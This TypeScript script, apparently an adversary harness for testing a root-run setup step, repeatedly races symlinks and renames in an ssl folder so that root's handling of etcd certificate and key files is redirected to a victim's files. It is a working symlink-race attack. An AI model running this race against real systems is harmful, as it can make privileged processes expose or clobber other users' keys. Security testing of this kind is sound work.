import { mkdirSync, renameSync, symlinkSync } from "node:fs";
import { join } from "node:path";

// Owns a destination's folder, and replaces everything that root looks at in it by links to a victim's files,
// in a tight loop. The arguments are the folder above `ssl` and the victim's folder. Ends on SIGTERM.

const [home = "", victim = ""] = process.argv.slice(2);
process.setgroups?.([]);
process.setgid?.(65534);
process.setuid?.(65534);

const ssl = join(home, "ssl");
let tricks = 0;

function attempt(call: () => void): void {
  try {
    call();
  } catch {
    // somebody was quicker; only root's reaction matters
  }
}

/** Makes a name lead elsewhere for a moment. Anything that root makes there meanwhile is moved away. */
function lead(path: string, target: string, link: (path: string, target: string) => void): void {
  const aside = `${path}.aside-${tricks++}`;
  attempt(() => renameSync(path, aside));
  attempt(() => link(path, target));
  pause(Math.random() * 2);
  attempt(() => renameSync(path, join(home, `junk-${tricks}`)));
  attempt(() => renameSync(aside, path));
}

function pause(milliseconds: number): void {
  for (const end = performance.now() + milliseconds; performance.now() < end; );
}

const ownLink = (path: string, target: string) => symlinkSync(target, path);
/** First a link that root made and trusts, then one that leads elsewhere. */
const rootsLinkFirst = (path: string, target: string) => {
  renameSync(join(home, "ssl.pem"), path);
  pause(Math.random());
  const mine = `${path}.mine`;
  attempt(() => symlinkSync(target, mine));
  renameSync(path, join(home, "ssl.pem"));
  renameSync(mine, path);
};
const ownFolder = (path: string) => mkdirSync(path);

const tricksOnNames: ReadonlyArray<() => void> = [
  () => lead(ssl, victim, ownLink),
  () => lead(ssl, victim, rootsLinkFirst),
  () => lead(join(ssl, ".etcd.set"), victim, ownLink),
  () => lead(join(ssl, ".etcd.set"), victim, ownFolder),
  ...["etcd-key.pem", "etcd.pem", "etcd-ca.pem"].map(
    (name) => () => lead(join(ssl, name), join(victim, name), ownLink),
  ),
];

process.once("SIGTERM", () => {
  console.log(tricks);
  process.exit(0);
});
for (;;) {
  tricksOnNames[Math.floor(Math.random() * tricksOnNames.length)]?.();
  await Bun.sleep(Math.random() * 4);
}
